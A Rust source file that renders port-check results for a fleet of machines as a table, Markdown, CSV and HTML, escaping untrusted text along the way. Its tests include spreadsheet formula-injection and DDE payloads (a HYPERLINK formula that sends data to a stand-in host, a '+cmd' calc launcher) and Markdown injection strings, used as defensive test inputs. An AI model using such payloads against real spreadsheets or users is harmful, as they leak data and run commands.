//! The fleet in four forms: a terminal table, Markdown for a ticket, CSV for a spreadsheet,
//! and one self-contained HTML page (inline CSS, no scripts, readable offline, printable).

use std::fmt::Write as _;

use comfy_table::{presets::NOTHING, Table};

use super::{Column, Fleet, Machine};
use crate::model::State;
use crate::report::Verdict;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FleetFormat {
    Table,
    Markdown,
    Csv,
    Html,
}

pub fn render(fleet: &Fleet, format: FleetFormat) -> String {
    match format {
        FleetFormat::Table => table(fleet),
        FleetFormat::Markdown => markdown(fleet),
        FleetFormat::Csv => csv(fleet),
        FleetFormat::Html => html(fleet),
    }
}

/// The files that were not reports, one line each, for a format that has no room for them
/// (CSV: on standard error).
pub fn skipped_lines(fleet: &Fleet) -> String {
    let mut out = String::new();
    for (path, why) in &fleet.skipped {
        let _ = writeln!(out, "skipped {}: {why}", shown(path));
    }
    out
}

fn ids(fleet: &Fleet) -> Vec<String> {
    fleet.columns.iter().map(|c| c.id.clone()).collect()
}

/// "37 of 40 machines: open|filtered (silent: open but quiet, or dropped ...)".
fn cause(column: &Column, total: usize) -> String {
    let Some((state, n)) = &column.cause else {
        return match column.pass {
            0 => "skipped everywhere (its target was not named)".into(),
            n if n == total => "passes everywhere".into(),
            n => format!("passes on the {n} machines where it ran"),
        };
    };
    let why = match state {
        State::Filtered => "no answer: a firewall on the way drops it",
        State::Closed => "refused: nothing listens there, or a firewall rejects it",
        State::OpenFiltered => {
            "silent: open but quiet, or dropped (check --key with serve on the far side tells)"
        }
        State::Error => "could not be tested (name resolution, proxy, or this machine)",
        State::Unfinished => "no result: the run reached its deadline inside the operating system",
        State::Open => "answers, but not as it should (see the reasons)",
    };
    format!("{state} on {n} of {total} machines: {why}")
}

fn headline(fleet: &Fleet) -> String {
    let total = fleet.machines.len();
    let failing = fleet.machines.iter().filter(|m| m.fails > 0).count();
    let warning = fleet
        .machines
        .iter()
        .filter(|m| m.fails == 0 && m.warns > 0)
        .count();
    let skipped = match fleet.skipped.len() {
        0 => String::new(),
        n => format!("; {n} file(s) skipped"),
    };
    format!(
        "{total} machines: {failing} failing, {warning} with warnings, {} passing{skipped}",
        total - failing - warning
    )
}

fn mark(machine: &Machine, id: &str) -> &'static str {
    match machine.cells.get(id).map(|c| c.verdict) {
        Some(Verdict::Pass) => "pass",
        Some(Verdict::Fail) => "FAIL",
        Some(Verdict::Warn) => "warn",
        Some(Verdict::Skip) => "skip",
        None => "",
    }
}

fn name(machine: &Machine) -> String {
    match machine.agent_id {
        Some(id) => format!("{} (agent {id})", machine.hostname),
        None => machine.hostname.clone(),
    }
}

/// Machines by the first path that fails (else warns) for them, largest group first.
fn groups(fleet: &Fleet) -> Vec<(String, Vec<&Machine>)> {
    let columns = ids(fleet);
    let mut groups: Vec<(String, Vec<&Machine>)> = Vec::new();
    for m in &fleet.machines {
        let Some(first) = m.first_problem(&columns) else {
            continue;
        };
        match groups.iter_mut().find(|(id, _)| id == first) {
            Some((_, members)) => members.push(m),
            None => groups.push((first.to_string(), vec![m])),
        }
    }
    groups.sort_by_key(|g| std::cmp::Reverse(g.1.len()));
    groups
}

fn table(fleet: &Fleet) -> String {
    let total = fleet.machines.len();
    let mut out = format!("Fleet: {}\n\n", headline(fleet));
    let mut checks = Table::new();
    checks
        .load_preset(NOTHING)
        .set_header(["CHECK", "FAIL", "WARN", "COMMON CAUSE"]);
    for c in &fleet.columns {
        checks.add_row([
            c.id.clone(),
            c.fail.to_string(),
            c.warn.to_string(),
            cause(c, total),
        ]);
    }
    let _ = writeln!(out, "{checks}\n");
    let columns = ids(fleet);
    let mut matrix = Table::new();
    let mut header = vec!["MACHINE".to_string()];
    header.extend(columns.iter().cloned());
    matrix.load_preset(NOTHING).set_header(header);
    for m in &fleet.machines {
        let mut row = vec![name(m)];
        row.extend(columns.iter().map(|id| mark(m, id).to_string()));
        matrix.add_row(row);
    }
    let _ = writeln!(out, "{matrix}\n");
    for (id, members) in groups(fleet) {
        let hosts: Vec<&str> = members.iter().map(|m| m.hostname.as_str()).collect();
        let _ = writeln!(
            out,
            "first problem {id} ({}): {}",
            members.len(),
            hosts.join(", ")
        );
    }
    out.push_str(&skipped_lines(fleet));
    out
}

/// A path as shown: file names are chosen by whoever wrote the folder.
fn shown(path: &std::path::Path) -> String {
    crate::model::defang(&path.display().to_string())
}

fn markdown(fleet: &Fleet) -> String {
    let total = fleet.machines.len();
    let mut out = format!("## automate-ports fleet: {}\n\n", headline(fleet));
    out.push_str("| check | fail | warn | common cause |\n|---|---:|---:|---|\n");
    for c in &fleet.columns {
        let _ = writeln!(
            out,
            "| `{}` | {} | {} | {} |",
            c.id,
            c.fail,
            c.warn,
            md_escape(&cause(c, total))
        );
    }
    let columns = ids(fleet);
    let _ = write!(out, "\n| machine |");
    for id in &columns {
        let _ = write!(out, " `{id}` |");
    }
    let _ = write!(out, "\n|---|{}\n", "---|".repeat(columns.len()));
    let mut notes = Vec::new();
    for m in &fleet.machines {
        let _ = write!(out, "| {} |", md_escape(&name(m)));
        for id in &columns {
            let mark = mark(m, id);
            if matches!(mark, "FAIL" | "warn") {
                notes.push(format!("{} {id}: {}", m.hostname, m.cells[id].reason));
                let _ = write!(out, " **{mark}** [{}] |", notes.len());
            } else {
                let _ = write!(out, " {mark} |");
            }
        }
        out.push('\n');
    }
    if !notes.is_empty() {
        out.push('\n');
        for (i, note) in notes.iter().enumerate() {
            let _ = writeln!(out, "{}. {}", i + 1, md_escape(note));
        }
    }
    if !fleet.skipped.is_empty() {
        out.push_str("\nSkipped files:\n\n");
        for (path, why) in &fleet.skipped {
            let _ = writeln!(out, "- {}: {}", md_escape(&shown(path)), md_escape(why));
        }
    }
    out
}

fn csv(fleet: &Fleet) -> String {
    let columns = ids(fleet);
    let mut w = csv::Writer::from_writer(Vec::new());
    let mut header = vec![
        "hostname",
        "agent_id",
        "file",
        "fail",
        "warn",
        "first_problem",
        "first_problem_reason",
    ];
    header.extend(columns.iter().map(String::as_str));
    let _ = w.write_record(header.iter().map(|h| csv_cell(h).into_owned()));
    for m in &fleet.machines {
        let first = m.first_problem(&columns).unwrap_or_default();
        let reason = m
            .cells
            .get(first)
            .map(|c| c.reason.clone())
            .unwrap_or_default();
        let mut row = vec![
            m.hostname.clone(),
            m.agent_id.map(|i| i.to_string()).unwrap_or_default(),
            shown(&m.file),
            m.fails.to_string(),
            m.warns.to_string(),
            first.to_string(),
            reason,
        ];
        row.extend(columns.iter().map(|id| {
            m.cells
                .get(id)
                .map(|c| c.verdict.as_str().to_string())
                .unwrap_or_default()
        }));
        let _ = w.write_record(row.iter().map(|c| csv_cell(c).into_owned()));
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// A cell a spreadsheet shows as text: every string in a fleet came from a report file anyone
/// on that PC could write, and quoting does not stop Excel or LibreOffice from evaluating a
/// cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's rule: prefix
/// it with `'`).
fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

use crate::report::html::{esc, CSS};
use crate::report::markdown::cell as md_escape;

fn html(fleet: &Fleet) -> String {
    let total = fleet.machines.len();
    let mut out = format!(
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>automate-ports fleet</title><style>{CSS}</style></head><body>\n<h1>automate-ports fleet</h1>\n<p class=\"summary\">{}</p>\n",
        esc(&headline(fleet))
    );
    out.push_str("<h2>Per check, worst first</h2>\n<table><tr><th>check</th><th>fail</th><th>warn</th><th>common cause</th></tr>\n");
    for c in &fleet.columns {
        let _ = writeln!(
            out,
            "<tr><td><code>{}</code></td><td class=\"num\">{}</td><td class=\"num\">{}</td><td>{}</td></tr>",
            esc(&c.id), c.fail, c.warn, esc(&cause(c, total))
        );
    }
    out.push_str("</table>\n<h2>Machines, worst first</h2>\n<p class=\"small\">Hover a cell for its reason.</p>\n<table><tr><th>machine</th>");
    let columns = ids(fleet);
    for id in &columns {
        let _ = write!(out, "<th class=\"rot\">{}</th>", esc(id));
    }
    out.push_str("</tr>\n");
    for m in &fleet.machines {
        let _ = write!(out, "<tr><td>{}</td>", esc(&name(m)));
        for id in &columns {
            match m.cells.get(id) {
                Some(c) => {
                    let class = c.verdict.as_str();
                    let _ = write!(
                        out,
                        "<td class=\"{class}\" title=\"{}\">{}</td>",
                        esc(&c.reason),
                        class
                    );
                }
                None => out.push_str("<td></td>"),
            }
        }
        out.push_str("</tr>\n");
    }
    out.push_str("</table>\n<h2>Grouped by the first failing path</h2>\n<ul>\n");
    for (id, members) in groups(fleet) {
        let hosts: Vec<String> = members.iter().map(|m| esc(&m.hostname)).collect();
        let reason = members
            .first()
            .and_then(|m| m.cells.get(&id))
            .map(|c| esc(&c.reason))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "<li><code>{}</code> ({}): {}<br><span class=\"small\">e.g. {reason}</span></li>",
            esc(&id),
            members.len(),
            hosts.join(", ")
        );
    }
    out.push_str("</ul>\n");
    if !fleet.skipped.is_empty() {
        out.push_str("<h2>Skipped files</h2>\n<ul>\n");
        for (path, why) in &fleet.skipped {
            let _ = writeln!(
                out,
                "<li><code>{}</code>: {}</li>",
                esc(&shown(path)),
                esc(why)
            );
        }
        out.push_str("</ul>\n");
    }
    out.push_str("</body></html>\n");
    out
}

#[cfg(test)]
mod tests {
    use super::{csv_cell, md_escape};

    #[test]
    fn markdown_text_stays_text() {
        assert_eq!(
            md_escape("<img src=x> [a](http://x) `c` *e* a|b\r\n"),
            "\\<img src=x\\> \\[a\\](http://x) \\`c\\` \\*e\\* a\\|b  "
        );
        assert_eq!(md_escape("pc-01 (Berlin)"), "pc-01 (Berlin)");
    }

    #[test]
    fn cells_that_a_spreadsheet_would_evaluate_are_text() {
        for hostile in [
            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(csv_cell(hostile), format!("'{hostile}"));
        }
        for plain in [
            "pc-01",
            "agent-https",
            "fail",
            "1000",
            "no answer in 2 s",
            "",
        ] {
            assert_eq!(csv_cell(plain), plain);
        }
    }
}
